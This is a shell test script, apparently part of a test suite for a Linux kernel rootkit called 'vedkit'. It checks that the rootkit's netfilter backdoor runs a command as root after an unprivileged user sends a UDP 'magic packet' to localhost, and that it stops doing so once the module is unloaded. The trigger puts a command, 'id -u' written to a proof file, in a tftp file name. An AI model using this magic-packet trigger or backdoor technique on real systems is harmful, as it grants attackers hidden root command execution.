# SPDX-License-Identifier: GPL-2.0
# vedkit technique "nf_backdoor": a netfilter hook turns a UDP "magic packet"
# to 127.0.0.1:31338 carrying "vedkit:CMD" into CMD run as root.  The packet
# is sent by uid 1000 with busybox tftp (its file name is the payload).
. /tests/lib/guest.sh

proof=/tmp/vedkit-nf-proof
send() {
	as_user timeout 2 tftp -g -r "vedkit:id -u >$proof" -l /dev/null 127.0.0.1 31338 \
		>/dev/null 2>&1
	for i in 1 2 3 4 5 6 7 8 9 10; do [ -s "$proof" ] && break; sleep 0.2; done
}
ran_as_root() { root_owned "$proof" && [ "$(cat "$proof")" = 0 ]; }

send
expect rootkit-netfilter-before "before insmod, the magic packet does nothing" [ ! -e "$proof" ]
expect rootkit-netfilter-load "vedkit techniques=nf_backdoor loads" \
	load_module vedkit techniques=nf_backdoor nf_port=31338
send
expect rootkit-netfilter-after "after insmod, uid 1000's magic packet to 127.0.0.1 runs a command as root" ran_as_root
expect rootkit-netfilter-unload "rmmod vedkit removes the hook" rmmod vedkit
rm -f "$proof"
send
expect rootkit-netfilter-restored "after rmmod, the magic packet does nothing" [ ! -e "$proof" ]
